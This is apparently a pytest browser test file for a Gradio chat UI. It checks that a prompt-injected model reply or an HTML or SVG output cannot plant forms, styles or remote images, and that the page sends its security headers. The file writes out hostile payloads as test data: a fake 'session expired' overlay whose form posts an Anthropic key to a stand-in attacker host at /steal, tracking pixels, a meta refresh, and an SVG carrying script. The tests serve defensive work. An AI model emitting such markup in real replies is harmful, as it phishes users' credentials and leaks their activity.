"""A prompt-injected reply cannot plant a form, styles or a remote image on the page, nor load anything remote
through an HTML output; the page carries its security headers and Gradio's own page still works under them.

The "remote" site is a real HTTP server on another loopback port (another origin) that records every request:
nothing may reach it. Each check fails without its protection (webui/safety.py for the chat's Markdown,
webui/headers.py for the page's policy, the policy inside the HTML output's frame).
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.page_helpers import ask, bot_text, send
from tests.browser.test_page import wait_idle, wait_until
from tests.support.claude_standin import ToolUse, text_reply, tool_reply

pytestmark = pytest.mark.browser


class RemoteSite:
    """Stands for an attacker's host: answers every GET with a 1x1 GIF and remembers the path."""

    GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")

    def __init__(self) -> None:
        self.hits: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(RemoteSite.GIF)))
                self.end_headers()
                self.wfile.write(RemoteSite.GIF)

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def remote() -> Iterator[RemoteSite]:
    site = RemoteSite()
    try:
        yield site
    finally:
        site.close()


def phishing_reply(remote: str) -> str:
    return (
        "Here is your answer.\n\n"
        f'<div id="overlay" style="position:fixed;inset:0;z-index:9999;background:white">'
        f'<p>Session expired. Re-enter your Anthropic key.</p>'
        f'<form id="phish" action="{remote}/steal" method="post">'
        f'<input id="phish-key" name="key" placeholder="sk-ant-..."><button id="phish-button">Save key</button>'
        f"</form></div>\n\n"
        f'<span id="styled" style="color:red">styled words</span>\n\n'
        f'<img id="pixel" src="{remote}/pixel.gif?inline">\n\n'
        f"![tracker]({remote}/pixel.gif?markdown)\n\n"
        "| col | val |\n|---|---|\n| a | 1 |\n\n"
        "Done: `<b>not bold</b>` and a [link](https://example.com).\n"
    )


def test_model_text_cannot_plant_forms_styles_or_remote_images(page, claude, remote):
    remote.hits.clear()
    claude.push(text_reply(phishing_reply(remote.url)))
    send(page, "Tell me something")
    wait_until(lambda: "Done:" in bot_text(page), 30, "the reply")
    wait_idle(page)
    page.wait_for_timeout(1000)
    bot = page.locator(".bot")
    for selector in ("form", "input", "button#phish-button", "#overlay", "#styled", "[style*='position']", "#pixel",
                     "img[src*='pixel.gif']"):
        assert bot.locator(selector).count() == 0, f"model text planted {selector} on the page"
    text = bot_text(page)
    assert "Session expired" in text and "styled words" in text, "the words themselves should still show"
    assert "<b>not bold</b>" in text, "inline code should show its HTML as text"
    assert page.locator(".bot table td", has_text="col").count() + page.locator(".bot table th", has_text="col").count() > 0, \
        "Markdown tables must still render"
    assert page.locator(".bot a[href='https://example.com']").count() > 0, "links must still render"
    assert remote.hits == [], f"the page fetched from the remote host: {remote.hits}"


def test_html_output_cannot_load_remote_resources(page, claude, remote):
    remote.hits.clear()
    code = (
        "from IPython.display import HTML, display\n"
        f"display(HTML('<p>frame-visible</p><img src=\"{remote.url}/pixel.gif?frame\">"
        f"<link rel=\"stylesheet\" href=\"{remote.url}/style.css?frame\">"
        f"<iframe src=\"{remote.url}/page.html?nested-frame\"></iframe>"
        f"<meta http-equiv=\"refresh\" content=\"0;url={remote.url}/refresh?frame\">'))\n"
    )
    claude.push(tool_reply(ToolUse("execute_code", {"code": code})), text_reply("Shown the output."))
    send(page, "Show some HTML")
    wait_until(lambda: "Shown the output." in bot_text(page), 60, "the final answer")
    wait_idle(page)
    frame = page.frame_locator(".bot iframe[sandbox]").first
    assert "frame-visible" in frame.locator("body").inner_text(timeout=10_000)
    page.wait_for_timeout(1000)
    assert remote.hits == [], f"the HTML output fetched from the remote host: {remote.hits}"


def test_the_page_sends_its_security_headers_and_works_under_them(browser, app, claude):
    context = browser.new_context()
    page = context.new_page()
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    try:
        response = page.goto(app.url)
        assert response is not None
        csp = response.headers.get("content-security-policy", "")
        assert "form-action 'self'" in csp and "frame-ancestors 'self'" in csp
        assert "img-src 'self' data: blob:" in csp
        assert response.headers.get("x-content-type-options") == "nosniff"
        assert response.headers.get("referrer-policy") == "same-origin"
        page.get_by_test_id("textbox").wait_for(timeout=30_000)
        claude.push(text_reply("Plain **answer** with $$x^2$$."))
        send(page, "hello")
        wait_until(lambda: "Plain" in bot_text(page), 30, "the reply")
        wait_idle(page)
        assert violations == [], f"Gradio's own page broke a rule of the policy: {violations}"
    finally:
        context.close()


def test_svg_output_shows_inline_as_an_image_and_runs_no_script(page, claude, remote):
    remote.hits.clear()
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" onload="window.top.__svg_pwned=1">'
        '<script>window.top.__svg_pwned=2</script><rect width="120" height="60" fill="teal"/>'
        f'<image href="{remote.url}/pixel.gif?svg" width="10" height="10"/></svg>'
    )
    code = f"from IPython.display import SVG, display\ndisplay(SVG({svg!r}))\n"
    claude.push(tool_reply(ToolUse("execute_code", {"code": code})), text_reply("Drew the picture."))
    ask(page, "Draw an SVG", "Drew the picture.")
    img = page.locator(".bot img[src^='data:image/svg+xml']").first
    img.wait_for(timeout=10_000)
    page.wait_for_function("(el) => el.complete && el.naturalWidth > 0", arg=img.element_handle(), timeout=10_000)
    assert page.locator(".bot svg rect[fill='teal']").count() == 0, "the SVG was put into the page as markup"
    page.wait_for_timeout(500)
    assert page.evaluate("() => window.__svg_pwned === undefined"), "a script inside the SVG ran"
    assert remote.hits == [], f"the SVG fetched from the remote host: {remote.hits}"
    claude.push(text_reply("Next turn after the picture."))
    send(page, "And now?")
    wait_until(lambda: "Next turn after the picture." in bot_text(page), 30, "the next turn's answer")
